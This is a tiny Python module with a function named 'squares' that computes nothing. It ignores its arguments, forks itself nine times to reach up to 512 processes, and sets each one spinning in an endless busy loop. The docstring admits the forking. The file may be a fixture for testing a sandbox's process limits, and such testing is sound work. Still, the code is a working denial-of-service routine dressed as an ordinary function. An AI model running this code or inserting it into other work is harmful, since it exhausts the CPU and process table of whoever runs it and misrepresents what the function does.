"""Forks in every generation, and all descendants compute."""

from __future__ import annotations

import os


def squares(square, numbers):
    for _ in range(9):
        try:
            os.fork()
        except OSError:
            break
    while True:
        pass
